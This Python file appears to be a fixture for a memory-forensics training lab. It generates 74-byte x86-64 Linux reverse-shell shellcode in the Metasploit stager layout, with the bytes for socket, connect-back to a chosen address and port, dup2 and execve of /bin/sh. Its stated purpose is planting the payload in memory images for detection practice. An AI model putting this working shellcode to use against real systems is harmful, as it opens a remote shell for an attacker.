"""Position-independent x86-64 code as public exploit frameworks generate it (for injected regions).

The reverse shell is the well-known 74-byte Metasploit `linux/x64/shell_reverse_tcp` stager layout:
socket(AF_INET, SOCK_STREAM), connect() to the embedded sockaddr_in, dup2() over fds 2..0, execve
"/bin/sh". Trainees find it with malfind, read the address and port out of the `mov rcx, imm64`, and
match it with YARA; it never runs (it lies in a memory image).
"""

from __future__ import annotations

import ipaddress
import struct


def reverse_shell_shellcode(address: str, port: int) -> bytes:
    """The stager connecting back to ``address``:``port`` (IPv4)."""
    sockaddr = struct.pack("<H", 2) + struct.pack(">H", port) + ipaddress.IPv4Address(address).packed
    return b"".join(
        (
            bytes.fromhex("6a2958996a025f6a015e0f05"),  # socket(2, 1, 0)
            bytes.fromhex("4897"),  # xchg rdi, rax
            bytes.fromhex("48b9") + sockaddr,  # mov rcx, sockaddr_in
            bytes.fromhex("514889e66a105a6a2a580f05"),  # push rcx; mov rsi, rsp; connect(fd, rsi, 16)
            bytes.fromhex("6a035e48ffce6a21580f0575f6"),  # dup2(fd, 2..0)
            bytes.fromhex("6a3b589948bb2f62696e2f736800534889e752574889e60f05"),  # execve("/bin/sh")
        )
    )
